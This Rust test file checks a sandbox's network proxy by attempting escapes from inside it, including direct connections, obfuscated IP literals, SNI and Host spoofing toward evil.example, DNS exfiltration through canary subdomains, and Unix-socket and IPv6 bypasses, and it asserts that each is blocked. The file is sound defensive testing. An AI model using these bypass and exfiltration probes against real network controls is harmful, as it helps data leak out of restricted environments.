//! Network mode `proxy`: the proxy is the one way out, and it must never become the way
//! out to anything the allowlist does not name. Each case attacks it from inside the
//! sandbox against a server the test runs on the host's loopback (under test names, see
//! tests/proxy_mode/cage.rs) and checks the server's side; the control reaches the same
//! server through the path the protection leaves open (an allowed name), so the probe is
//! known to work.

use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::UnixListener;

use crate::cage::{Cage, NO_PROXY_VARS, show};
use crate::common::{stderr, stdout};
use crate::harness::*;
use crate::support::{TestCa, TlsUpstream, Upstream};

fn cage(c: &Ctx, network: &str) -> Option<Cage> {
    let cage = Cage::new(network)?;
    std::fs::write(cage.ws.path().join(".probe.py"), PROBE).unwrap();
    let _ = c;
    Some(cage)
}

// A raw request to the explicit proxy (the target exactly as written, no client
// normalising it first): prints what the proxy answered.
const RAW: &str = r#"
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
target = sys.argv[1]
if target.startswith("http://"):
    host = target.split("/")[2]
    s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, host)).encode())
else:
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
data = b""
while len(data) < 2000:
    chunk = s.recv(2000)
    if not chunk:
        break
    data += chunk
print(data.decode("latin-1").replace("\r\n", " | "))
"#;

// `RAW TARGET` in the cage: the proxy's answer on one line.
fn raw(cage: &Cage, target: &str) -> String {
    cage.ws.write("raw.py", RAW);
    let out = cage.sh(&[], &format!("{PY} raw.py '{target}'"));
    stdout(&out)
}

// The probe in the cage (`ERR ENAME` / `OK …`), proxy variables unset.
fn probe(cage: &Cage, args: &str) -> Out {
    Out::from_output(cage.sh(&[], &format!("{NO_PROXY_VARS} {PY} .probe.py {args}")))
}

// Bypassing the proxy: a client that connects straight to the host's loopback or
// interface address from inside (proxy variables unset, addresses not names). The
// sandbox's loopback is its own and its only route is the reserved range, so nothing
// leaves; the same server is reachable through the proxy by an allowed name (control).
attack!(proxy_direct_connect_around_the_proxy, "network", |c| {
    let up = Upstream::start();
    let port = up.port();
    let Some(cage) = cage(&c, &format!("allow = [\"a.example:{port}\"]")) else {
        return;
    };
    let mut seen = vec![];
    for host in ["127.0.0.1".to_string()]
        .into_iter()
        .chain(host_ipv4().map(|a| a.to_string()))
    {
        let out = probe(&cage, &format!("tcp {host} {port}"));
        let r = out.result();
        if host == "127.0.0.1" && r.starts_with("OK") {
            // The port of an allowed name has the proxy's listener inside: the connection
            // lands there, and the proxy refuses an address it did not hand out.
            assert!(
                out.stderr
                    .contains(&format!("blocked 1 connection: 127.0.0.1:{port}")),
                "{out:?}"
            );
            seen.push(format!(
                "{host}: reached the proxy's listener, refused there"
            ));
            continue;
        }
        let r = assert_errno(
            &out,
            &[
                "ECONNREFUSED",
                "ENETUNREACH",
                "EACCES",
                "EPERM",
                "ECONNRESET",
            ],
        );
        seen.push(format!("{host}: {r}"));
    }
    assert_eq!(up.accepted(), 0, "the host server was reached directly");
    let out = cage.sh(&[], &format!("curl -sS -m 20 http://a.example:{port}/"));
    assert!(
        stdout(&out).contains("hello from a.example"),
        "{}",
        show(&out)
    );
    assert_eq!(up.accepted(), 1);
    c.seen(&format!(
        "{}; host server saw nothing; control via the proxy reached it",
        seen.join(", ")
    ));
});

// IP literals in odd notations, for a host whose address is private: the proxy reads
// them as glibc would (2130706433 = 0x7f.1 = 127.0.0.1) and refuses both ways (the
// literal is not named, and the address is private). Control: the same server by an
// allowed name.
attack!(proxy_ip_literals_in_odd_notations, "network", |c| {
    let up = Upstream::start();
    let port = up.port();
    let Some(cage) = cage(
        &c,
        &format!("allow = [\"a.example:{port}\", \"127.0.0.1:{port}\"]\nallow_private = []"),
    ) else {
        return;
    };
    let mut codes = vec![];
    for lit in [
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "127.0.0.1.",
    ] {
        for target in [format!("http://{lit}:{port}/"), format!("{lit}:{port}")] {
            let got = raw(&cage, &target);
            assert!(
                got.starts_with("HTTP/1.1 403 ") || got.starts_with("HTTP/1.1 400 "),
                "{target}: {got}"
            );
            assert!(got.contains("shellcage: blocked"), "{target}: {got}");
            codes.push(format!("{target} {}", &got[9..12]));
        }
    }
    // 127.0.0.1 itself is named by the allowlist: refused for its address.
    let got = raw(&cage, &format!("127.0.0.1:{port}"));
    assert!(got.contains("private address 127.0.0.1"), "{got}");
    assert_eq!(up.accepted(), 0, "a literal reached the server");
    // Control: with allow_private the named literal passes (the check is the address).
    let Some(open) = cage_with(&c, &format!("allow = [\"127.0.0.1:{port}\"]")) else {
        return;
    };
    let got = raw(&open, &format!("http://127.0.0.1:{port}/"));
    assert!(got.contains("hello from 127.0.0.1"), "{got}");
    assert_eq!(up.accepted(), 1);
    c.seen(&format!(
        "{}; server saw nothing; control with allow_private reached it",
        codes.join(", ")
    ));
});

fn cage_with(c: &Ctx, network: &str) -> Option<Cage> {
    cage(c, network)
}

// CONNECT (and transparent connections) to a port the allowlist does not open for an
// allowed name: 403 with the allowed ports named; the server on that port sees nothing.
attack!(proxy_connect_to_a_port_not_allowed, "network", |c| {
    let open = Upstream::start();
    let closed = Upstream::start();
    let (p, q) = (open.port(), closed.port());
    let Some(cage) = cage(&c, &format!("allow = [\"a.example:{p}\"]")) else {
        return;
    };
    let got = raw(&cage, &format!("a.example:{q}"));
    assert!(got.starts_with("HTTP/1.1 403 "), "{got}");
    assert!(
        got.contains(&format!("shellcage: blocked a.example:{q}: port not allowed (allowed: {p}) (fix: --allow-host a.example:{q}")),
        "{got}"
    );
    // Transparent: no listener on that port inside: the kernel refuses it.
    let out = cage.sh(
        &[],
        &format!("{NO_PROXY_VARS} curl -sS -m 20 http://a.example:{q}/; echo rc=$?"),
    );
    assert!(stdout(&out).contains("rc=7"), "{}", show(&out));
    assert_eq!(closed.accepted(), 0, "the closed port was reached");
    let out = cage.sh(&[], &format!("curl -sS -m 20 -p http://a.example:{p}/"));
    assert!(
        stdout(&out).contains("hello from a.example"),
        "{}",
        show(&out)
    );
    assert_eq!(open.accepted(), 1);
    c.seen(&format!("CONNECT a.example:{q} 403, transparent ECONNREFUSED; port {q} saw nothing; control on {p} reached"));
});

// A TLS ClientHello whose SNI names another host than the one the connection was
// allowed for (CONNECT a.example, then SNI evil.example; or a transparent connection
// to a.example's reserved address with SNI evil.example): refused before a byte reaches
// the server. An HTTP request whose Host differs: the same. Control: matching names.
attack!(
    proxy_sni_or_host_differs_from_the_allowed_name,
    "network",
    |c| {
        let Some(ca) = TestCa::new() else {
            crate::common::require(false, "openssl");
            return;
        };
        let tls = TlsUpstream::start(&ca);
        let up = Upstream::start();
        let (t, p) = (tls.port, up.port());
        let Some(cage) = cage(
            &c,
            &format!("allow = [\"a.example:{t}\", \"a.example:{p}\"]"),
        ) else {
            return;
        };
        let ca_file = cage.give(&ca.ca());
        let py = format!(
            r#"
import socket, ssl, sys
ctx = ssl.create_default_context(cafile="{ca_file}")
def tls(sock, sni):
    try:
        s = ctx.wrap_socket(sock, server_hostname=sni)
        s.sendall(b"GET / HTTP/1.1\r\nHost: " + sni.encode() + b"\r\nConnection: close\r\n\r\n")
        return "OK " + s.recv(200).decode().split("\r\n")[0]
    except (OSError, ssl.SSLError) as e:
        return "ERR " + type(e).__name__
def explicit(sni):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT a.example:{t} HTTP/1.1\r\nHost: a.example:{t}\r\n\r\n")
    head = s.recv(200)
    if not head.startswith(b"HTTP/1.1 200"):
        return "ERR " + head.decode().split("\r\n")[0]
    return tls(s, sni)
def transparent(sni):
    return tls(socket.create_connection(("a.example", {t}), timeout=20), sni)
def host(h):
    s = socket.create_connection(("a.example", {p}), timeout=20)
    s.sendall(b"GET / HTTP/1.1\r\nHost: " + h.encode() + b"\r\nConnection: close\r\n\r\n")
    return s.recv(200).decode().split("\r\n")[0]
print("explicit", sys.argv[1], explicit(sys.argv[1]))
print("transparent", sys.argv[1], transparent(sys.argv[1]))
print("host", sys.argv[1], host(sys.argv[1] + ":{p}"))
"#
        );
        cage.ws.write("sni.py", &py);
        let bad = cage.sh(&[], &format!("{NO_PROXY_VARS} {PY} sni.py evil.example"));
        let o = stdout(&bad);
        assert!(o.contains("explicit evil.example ERR"), "{}", show(&bad));
        assert!(o.contains("transparent evil.example ERR"), "{}", show(&bad));
        assert!(
            o.contains("host evil.example HTTP/1.1 403"),
            "{}",
            show(&bad)
        );
        assert!(
            stderr(&bad).contains("shellcage: network: blocked 3 connections"),
            "{}",
            show(&bad)
        );
        assert!(
            tls.events("request").is_empty(),
            "{:?}",
            tls.events("request")
        );
        assert!(
            tls.events("sni").is_empty(),
            "the server saw a ClientHello: {:?}",
            tls.events("sni")
        );
        assert_eq!(up.accepted(), 0);
        // Control: the same clients with the allowed name.
        let good = cage.sh(&[], &format!("{NO_PROXY_VARS} {PY} sni.py a.example"));
        let o = stdout(&good);
        assert!(
            o.contains("explicit a.example OK HTTP/1.1 200"),
            "{}",
            show(&good)
        );
        assert!(
            o.contains("transparent a.example OK HTTP/1.1 200"),
            "{}",
            show(&good)
        );
        assert!(o.contains("host a.example HTTP/1.1 200"), "{}", show(&good));
        assert_eq!(tls.events("sni").len(), 2);
        c.seen("SNI evil.example after CONNECT a.example / to a.example's address refused, Host evil.example 403; server saw no hello; control with a.example reached");
    }
);

// DNS exfiltration: the command asks for names that carry data (`CANARY.evil.example`)
// through the resolver inside (UDP and TCP), and sends a query straight to the host's
// nameserver. The proxy's resolver answers from the allowlist and never forwards; the
// host's resolver (a sink the test runs in its own network namespace) never sees the
// name. Control: an allowed name is looked up there by the proxy when connected to.
attack!(proxy_dns_exfiltration, "network", |c| {
    let Some(cage) = cage(&c, "allow = [\"a.example\"]").map(Cage::with_dns_sink) else {
        return;
    };
    let host_ns = std::fs::read_to_string("/etc/resolv.conf")
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("nameserver ").map(|s| s.trim().to_string()))
        .filter(|a| a.parse::<std::net::Ipv4Addr>().is_ok())
        .unwrap_or_else(|| "10.0.0.53".into());
    let canary = c.canary.to_lowercase();
    let py = format!(
        r#"
import socket, struct
def query(name):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return q + struct.pack(">HH", 1, 1)
def udp(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    try:
        s.sendto(query(name), (server, 53))
        r = s.recv(512)
        return "rcode %d answers %d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
    except OSError as e:
        return "ERR %s" % type(e).__name__
def tcp(server, name):
    try:
        s = socket.create_connection((server, 53), timeout=3)
        q = query(name)
        s.sendall(struct.pack(">H", len(q)) + q)
        r = s.recv(514)[2:]
        return "rcode %d" % (r[3] & 15)
    except OSError as e:
        return "ERR %s" % type(e).__name__
print("udp", udp("127.0.0.1", "{canary}.evil.example"))
print("tcp", tcp("127.0.0.1", "{canary}.a.example"))
print("host", udp("{host_ns}", "{canary}.evil.example"))
try:
    socket.getaddrinfo("{canary}-x.evil.example", 443)
    print("gai resolved")
except socket.gaierror as e:
    print("gai", e.errno)
"#
    );
    cage.ws.write("dns.py", &py);
    let out = cage.sh(&[], &format!("{PY} dns.py"));
    let o = stdout(&out);
    assert!(o.contains("udp rcode 3 answers 0"), "{}", show(&out));
    assert!(o.contains("tcp rcode 3"), "{}", show(&out));
    assert!(o.contains("host ERR"), "{}", show(&out));
    assert!(!o.contains("gai resolved"), "{}", show(&out));
    let log = cage.dns_log();
    assert!(
        !log.iter().any(|n| n.to_lowercase().contains(&canary)),
        "the host's resolver saw the canary: {log:?}"
    );
    assert!(stderr(&out).contains("refused"), "{}", show(&out));
    // Control: connecting to an allowed name makes the proxy look it up there.
    let out = cage.sh(&[], "curl -sS -m 20 http://a.example/; true");
    assert!(
        cage.dns_log().iter().any(|n| n == "a.example"),
        "the sink never saw the proxy's lookup: {:?} {}",
        cage.dns_log(),
        show(&out)
    );
    c.seen("CANARY.evil.example / CANARY.a.example NXDOMAIN inside (UDP, TCP), host nameserver unreachable; the host resolver saw no canary; control: a.example looked up by the proxy");
});

// The proxy process and its channels are not reachable from inside: it runs outside the
// sandbox's pid namespace, its channel to the init is a socket pair (no name), and the
// command inherits no descriptor of it. Control: on the host, the run's proxy process
// exists and holds those sockets.
attack!(proxy_own_control_channel, "network", |c| {
    let Some(cage) = cage(&c, "allow = [\"a.example\"]") else {
        return;
    };
    let py = r#"
import os, socket, stat, time
mine = []
for fd in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISSOCK(os.fstat(int(fd)).st_mode):
            mine.append(fd)
    except OSError:
        pass
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("sockets", len(mine), "pids", len(pids), "max", max(pids))
import sys; sys.stdout.flush()
time.sleep(3)
"#;
    cage.ws.write("fds.py", py);
    let child = cage
        .command(&[], &[PY, "fds.py"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Control: the run's proxy process, seen from the host, holds unix sockets.
    let mut proxy_sockets = 0;
    let start = std::time::Instant::now();
    while start.elapsed() < std::time::Duration::from_secs(2) && proxy_sockets == 0 {
        std::thread::sleep(std::time::Duration::from_millis(200));
        // (A warm run's proxy is the session server's child, not the client's.)
        let mut procs = descendants(child.id());
        for server in session_servers_for(cage.ws.path()) {
            procs.extend(descendants(server));
        }
        proxy_sockets = procs
            .iter()
            .filter(|p| comm(**p) == "shellcage")
            .map(|p| sockets_of(*p))
            .max()
            .unwrap_or(0);
    }
    let out = child.wait_with_output().unwrap();
    let o = stdout(&out);
    assert!(
        o.contains("sockets 0 "),
        "the command holds a socket: {}",
        show(&out)
    );
    // Only the sandbox's processes: its init, the shell chain and python.
    let pids: usize = o
        .split_whitespace()
        .nth(3)
        .and_then(|n| n.parse().ok())
        .unwrap_or(99);
    assert!(pids <= 4, "{}", show(&out));
    assert!(
        proxy_sockets >= 2,
        "control: no proxy process with sockets found on the host"
    );
    c.seen(&format!("no socket inherited, {pids} pids visible; control: the proxy holds {proxy_sockets} sockets outside"));
});

fn descendants(pid: u32) -> Vec<u32> {
    let mut out = vec![];
    let mut todo = vec![pid];
    while let Some(p) = todo.pop() {
        for task in std::fs::read_dir(format!("/proc/{p}/task"))
            .into_iter()
            .flatten()
            .flatten()
        {
            let kids = std::fs::read_to_string(task.path().join("children")).unwrap_or_default();
            for k in kids.split_whitespace().filter_map(|k| k.parse().ok()) {
                out.push(k);
                todo.push(k);
            }
        }
    }
    out
}

/// The servers of the sessions for `ws` (their descriptions in the session directories
/// of this machine's users).
fn session_servers_for(ws: &std::path::Path) -> Vec<u32> {
    let mut dirs: Vec<std::path::PathBuf> = std::fs::read_dir("/tmp")
        .into_iter()
        .flatten()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("shellcage-"))
        .map(|e| e.path().join("sessions"))
        .collect();
    if let Some(run) = std::env::var_os("XDG_RUNTIME_DIR") {
        dirs.push(std::path::Path::new(&run).join("shellcage/sessions"));
    }
    let mut out = Vec::new();
    for d in dirs {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let Ok(text) = std::fs::read_to_string(e.path()) else {
                continue;
            };
            let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) else {
                continue;
            };
            if v["workspace"].as_str() == ws.to_str() {
                out.extend(v["pid"].as_u64().map(|p| p as u32));
            }
        }
    }
    out
}

fn comm(pid: u32) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/comm"))
        .unwrap_or_default()
        .trim()
        .to_string()
}

fn sockets_of(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten()
        .flatten()
        .filter(|e| {
            std::fs::read_link(e.path()).is_ok_and(|l| l.to_string_lossy().starts_with("socket:"))
        })
        .count()
}

// Unix sockets to the outside in proxy mode: a named socket outside the workspace is not
// visible, an abstract one belongs to the host's network namespace. Control: the host
// reaches both.
attack!(proxy_unix_sockets_to_the_outside, "network", |c| {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("agent.sock");
    let named = UnixListener::bind(&path).unwrap();
    let name = format!("shellcage-proxy-{}", c.canary);
    let abs = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let abstract_l = UnixListener::bind_addr(&abs).unwrap();
    let a = c.probe_sc(&["--net", "proxy"], &["unix", path.to_str().unwrap()]);
    let ra = assert_errno(&a, &["ENOENT", "EACCES", "ECONNREFUSED", "EPERM"]);
    let b = c.probe_sc(&["--net", "proxy"], &["abstract", &name]);
    let rb = assert_errno(&b, &["ECONNREFUSED", "EPERM", "EACCES"]);
    assert!(!unix_saw_connection(&named, false));
    assert!(!unix_saw_connection(&abstract_l, false));
    assert_ok(&c.probe_host(&["unix", path.to_str().unwrap()]));
    assert_ok(&c.probe_host(&["abstract", &name]));
    assert!(unix_saw_connection(&named, true) && unix_saw_connection(&abstract_l, true));
    c.seen(&format!("named {ra}, abstract {rb}; controls connected"));
});

// IPv6 around the IPv4-only reserved range: the resolver gives no AAAA for an allowed
// name, the namespace has no IPv6 route but ::1 (its own), and an IPv6 literal through
// the proxy is judged like any address. Control: the host reaches its ::1 listener.
attack!(proxy_ipv6_around_the_range, "network", |c| {
    let Ok(l6) = TcpListener::bind("[::1]:0") else {
        crate::common::require(false, "IPv6 ::1 on the host");
        return;
    };
    let port = l6.local_addr().unwrap().port();
    let Some(cage) = cage(
        &c,
        &format!("allow = [\"a.example:{port}\", \"[::1]:{port}\"]\nallow_private = []"),
    ) else {
        return;
    };
    let out = cage.sh(
        &[],
        &format!(
            "{NO_PROXY_VARS} {PY} -c \"import socket; print('aaaa', len([a for a in socket.getaddrinfo('a.example', {port}) if a[0] == socket.AF_INET6]))\"; {PY} .probe.py tcp ::1 {port}; {PY} .probe.py tcp 2001:db8::1 {port}"
        ),
    );
    let o = stdout(&out);
    assert!(o.contains("aaaa 0"), "{}", show(&out));
    let errs: Vec<&str> = o.lines().filter(|l| l.starts_with("ERR ")).collect();
    assert_eq!(errs.len(), 2, "{}", show(&out));
    let got = raw(&cage, &format!("[::1]:{port}"));
    assert!(got.contains("private address ::1"), "{got}");
    assert!(tcp_saw_nothing(&l6), "the host's ::1 listener was reached");
    assert_ok(&c.probe_host(&["tcp", "::1", &port.to_string()]));
    assert!(tcp_saw_connection(&l6));
    c.seen(&format!(
        "no AAAA; {}; proxy refused [::1]; control reached ::1",
        errs.join(", ")
    ));
});

// UDP (QUIC) to an allowed name's reserved address: nothing listens for UDP there and
// the proxy relays only TCP; the host's UDP server on that port receives nothing.
// Control: the host's own datagram arrives.
attack!(proxy_udp_to_an_allowed_name, "network", |c| {
    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = s.local_addr().unwrap().port();
    let Some(cage) = cage(&c, &format!("allow = [\"a.example:{port}\"]")) else {
        return;
    };
    let out = cage.sh(
        &[],
        &format!("{NO_PROXY_VARS} {PY} -c \"import socket; a = socket.gethostbyname('a.example'); print(a)\" > addr; {PY} .probe.py udp $(cat addr) {port}; {PY} .probe.py udp 127.0.0.1 {port}"),
    );
    assert!(
        stdout(&out).contains("OK") || stdout(&out).contains("ERR"),
        "{}",
        show(&out)
    );
    assert!(
        !udp_received(&s),
        "the host's UDP socket received a datagram"
    );
    assert_ok(&c.probe_host(&["udp", "127.0.0.1", &port.to_string()]));
    assert!(udp_received(&s));
    c.seen(
        "datagrams to a.example's reserved address and 127.0.0.1 went nowhere; control received",
    );
});

// The command takes the proxy's ports inside: binding 0.0.0.0:443 or 127.0.0.1:53 fails
// (taken, and below the unprivileged port range for a command without capabilities), so
// it cannot stand in for the proxy's listener or resolver. Control: a free high port binds
// under --net loopback.
attack!(proxy_command_binds_the_proxys_ports, "network", |c| {
    let Some(cage) = cage(&c, "allow = [\"a.example\"]") else {
        return;
    };
    let py = "import socket, sys\nfor host, port, kind in [('0.0.0.0', 443, socket.SOCK_STREAM), ('127.0.0.1', 53, socket.SOCK_DGRAM), ('127.0.0.1', 3128, socket.SOCK_STREAM)]:\n    s = socket.socket(socket.AF_INET, kind)\n    try:\n        s.bind((host, port)); print('bound', port)\n    except OSError as e:\n        print('refused', port, e.errno)\n";
    cage.ws.write("bind.py", py);
    let out = cage.sh(&[], &format!("{PY} bind.py"));
    let o = stdout(&out);
    assert!(!o.contains("bound"), "{}", show(&out));
    assert_eq!(o.matches("refused").count(), 3, "{}", show(&out));
    let ctl = c.sc(&["--net", "loopback"], &format!("{PY} -c \"import socket; s = socket.socket(); s.bind(('127.0.0.1', 45123)); print('bound')\""));
    assert!(ctl.stdout.contains("bound"), "{ctl:?}");
    c.seen(&format!(
        "{}; control bound a free port",
        o.trim().replace('\n', ", ")
    ));
});
